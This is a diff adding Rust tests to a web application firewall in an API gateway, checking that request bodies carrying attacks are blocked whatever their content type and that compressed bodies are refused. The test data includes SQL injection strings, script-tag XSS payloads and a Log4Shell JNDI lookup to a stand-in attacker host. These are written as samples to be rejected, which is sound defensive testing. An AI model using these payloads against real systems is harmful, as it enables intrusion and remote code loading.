@@ -74,6 +74,56 @@ fn the_rules_that_come_with_the_gateway_stop_what_everybody_tries() {
 }
 
 #[test]
+fn attacks_in_bodies_are_stopped_whatever_the_type_says() {
+    let waf = own();
+    let send = |kind: Option<&str>, body: &'static str| {
+        let request = waf.request().by("POST").header("user-agent", BROWSER);
+        let request = if let Some(kind) = kind { request.header("content-type", kind) } else { request };
+        request.body(body).answered(Response::new(Body::Empty)).status.as_u16()
+    };
+    for kind in
+        [None, Some("text/plain"), Some("text/plain; charset=utf-8"), Some("application/octet-stream"), Some("x")]
+    {
+        for attack in [
+            r#"{"name": "1' or '1'='1"}"#,
+            r#"{"name": "<script>alert(1)</script>"}"#,
+            r#"{"name": "\u003cscript>alert(1)</script>"} {}"#,
+            "1' or '1'='1",
+            "<script>alert(1)</script>",
+            "name=<script>alert(1)</script>",
+            "${jndi:ldap://evil.example/a}",
+        ] {
+            assert_eq!(send(kind, attack), 403, "{kind:?} {attack}");
+        }
+        for ordinary in ["", "hello", "Tom's cats & dogs", "{\"name\": \"D'Angelo\"}", "{", "\u{0}\u{1}<script>x"] {
+            assert_eq!(send(kind, ordinary), 200, "{kind:?} {ordinary}");
+        }
+    }
+}
+
+#[test]
+fn what_is_excluded_from_a_body_without_a_type_passes() {
+    let excluded = json!({"exclusions": [{"tags": ["attack-xss"], "targets": ["ARGS:REQUEST_BODY"]}]});
+    for (settings, status) in [(json!({}), 403), (excluded, 200)] {
+        let waf = policy::<Waf>(settings);
+        let request = waf.request().by("PUT").header("content-type", "text/html");
+        let answer = request.body("<script>x()</script>").answered(Response::new(Body::Empty));
+        assert_eq!(answer.status.as_u16(), status);
+    }
+}
+
+#[test]
+fn bodies_in_a_coding_that_cannot_be_looked_into_are_refused() {
+    let waf = own();
+    for (coding, status) in [("gzip", 415), ("br", 415), ("identity, gzip", 415), ("identity", 200), ("Identity", 200)]
+    {
+        let request = waf.request().by("POST").header("content-type", "application/json");
+        let answer = request.header("content-encoding", coding).body("{}").answered(Response::new(Body::Empty));
+        assert_eq!(answer.status.as_u16(), status, "{coding}");
+    }
+}
+
+#[test]
 fn ordinary_requests_pass_the_rules_that_come_with_the_gateway() {
     let waf = policy::<Waf>(json!({"mode": "detect"}));
     for target in [
